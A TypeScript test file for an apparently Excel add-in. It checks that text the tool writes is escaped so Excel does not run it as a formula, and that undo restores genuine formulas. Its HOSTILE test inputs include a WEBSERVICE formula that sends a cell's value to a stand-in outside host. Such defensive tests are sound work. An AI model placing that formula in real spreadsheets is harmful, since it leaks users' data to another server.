/**
 * Text the tool writes through Office.js stays text (issue 15): Excel reads range.values as if
 * typed, so "=…", "+…", "-…", "@…" would be formulas and a leading "'" would vanish. Only a
 * user's formula put back by undo (plan.formulas) is written as a formula.
 */
import { excelValue } from "../../src/adapters/office/batch";
import type { WritePlan } from "../../src/model/plan";
import { planUndo } from "../../src/plan";
import { fakeFor } from "./helpers";
import type { Grid } from "../../src/model/grid";

const HOSTILE = ['=WEBSERVICE("http://x/?"&A1)', "+A1", "-A1", "@A1", "'trích", "Khá"];

function sheetWithBlanks(): Grid {
  return { sheet: "Bảng", origin: { row: 0, col: 0 }, values: [["Đơn vị", "Xếp loại"], ["Sở Tư pháp", 1], ["Sở Nội vụ", 2], ["Công an", 3], ["Sở Y tế", 4], ["Sở Xây dựng", 5], ["Xã A", 6]] };
}

function textPlan(values: string[], formulas?: string[]): WritePlan {
  return {
    sheet: "Bảng",
    columns: [],
    blocks: [{ address: `B2:B${values.length + 1}`, row: 1, col: 1, values: values.map((v) => [v]), numberFormats: values.map(() => [null]) }],
    underline: { set: [], clear: [] },
    previous: values.map((_, i) => ({ address: `B${i + 2}`, value: i + 1, numberFormat: "General", underline: false })),
    conflicts: [],
    ...(formulas ? { formulas } : {}),
  };
}

test("excelValue prefixes text Excel would read as a formula (or strip a quote from), and nothing else", () => {
  expect(HOSTILE.map((v) => excelValue(v))).toEqual(['\'=WEBSERVICE("http://x/?"&A1)', "'+A1", "'-A1", "'@A1", "''trích", "Khá"]);
  expect([excelValue(-5), excelValue(null), excelValue(true)]).toEqual([-5, "", true]);
  expect(excelValue("=SUM(A1:A3)", true)).toBe("=SUM(A1:A3)");
});

test("texts written by a plan arrive as the same texts, none of them a formula", async () => {
  const { excel, adapter } = fakeFor(sheetWithBlanks());
  await adapter.apply(textPlan(HOSTILE), { version: 1, profile: null, mapping: {}, lastRun: null });
  const sheet = excel.model.sheet("Bảng")!;
  expect(HOSTILE.map((_, i) => sheet.cell(i + 1, 1).value)).toEqual(HOSTILE);
  expect(HOSTILE.map((_, i) => sheet.cell(i + 1, 1).formula)).toEqual(HOSTILE.map(() => undefined));
});

test("undo writes a snapshot's formula back as a formula, and a snapshot's text starting with = as text", async () => {
  const { excel, adapter } = fakeFor(sheetWithBlanks());
  const state = {
    version: 1 as const,
    profile: null,
    mapping: {},
    lastRun: {
      sheet: "Bảng",
      at: "2026-12-07T00:00:00Z",
      written: [1, 2, 3, 4, 5, 6].map((n) => ({ address: `B${n + 1}`, value: n, underline: false })),
      previous: [{ address: "B2", value: "=SUM(A1:A3)", numberFormat: "General", underline: false }],
    },
  };
  const undo = planUndo(state, (await adapter.read()).grid);
  expect(undo.formulas).toEqual(["B2"]);
  await adapter.apply(undo, { ...state, lastRun: null });
  expect(excel.model.sheet("Bảng")!.cell(1, 1).formula).toBe("=SUM(A1:A3)");
  // The same text not listed as a formula (computed or copied) stays text.
  const { excel: other, adapter: otherAdapter } = fakeFor(sheetWithBlanks());
  await otherAdapter.apply({ ...undo, formulas: undefined }, { ...state, lastRun: null });
  expect(other.model.sheet("Bảng")!.cell(1, 1)).toEqual(expect.objectContaining({ value: "=SUM(A1:A3)" }));
  expect(other.model.sheet("Bảng")!.cell(1, 1).formula).toBeUndefined();
});
